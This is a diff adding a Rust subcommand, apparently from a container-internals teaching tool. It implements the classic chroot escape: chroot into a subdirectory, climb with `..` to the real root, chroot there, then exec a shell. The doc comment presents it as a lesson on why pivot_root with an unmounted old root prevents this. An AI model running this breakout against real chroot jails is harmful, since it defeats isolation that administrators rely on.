@@ -1,0 +1,39 @@
+//! `underhood chroot-escape [CMD...]`: the classic way out of a chroot, for the lesson
+//! that compares chroot(2) with pivot_root(2). chroot(2) does not change the current
+//! directory, and `..` stops only at the process's root: so chroot into a
+//! subdirectory (the cwd is now *outside* the root), climb with `..` as far as the
+//! real root, and chroot there. After pivot_root and unmounting the old root there is
+//! nothing above the container's root to climb to. Needs CAP_SYS_CHROOT.
+
+use std::os::unix::process::CommandExt;
+use std::process::{Command, ExitCode};
+
+pub fn main(cmd: &[String]) -> ExitCode {
+    let dir = "/.underhood-escape";
+    if let Err(e) = std::fs::create_dir_all(dir) {
+        eprintln!("chroot-escape: mkdir {dir}: {e}");
+        return ExitCode::from(1);
+    }
+    if let Err(e) = nix::unistd::chroot(dir) {
+        eprintln!("chroot-escape: chroot({dir}): {e} (CAP_SYS_CHROOT is needed)");
+        return ExitCode::from(1);
+    }
+    for _ in 0..128 {
+        if nix::unistd::chdir("..").is_err() {
+            break;
+        }
+    }
+    if let Err(e) = nix::unistd::chroot(".") {
+        eprintln!("chroot-escape: chroot(\".\"): {e}");
+        return ExitCode::from(1);
+    }
+    let _ = nix::unistd::chdir("/");
+    eprintln!("chroot-escape: climbed as far as `..` goes and made it the root");
+    let (prog, args) = match cmd.split_first() {
+        Some((p, a)) => (p.clone(), a.to_vec()),
+        None => ("/bin/sh".to_string(), Vec::new()),
+    };
+    let err = Command::new(&prog).args(&args).exec();
+    eprintln!("chroot-escape: {prog}: {err}");
+    ExitCode::from(127)
+}
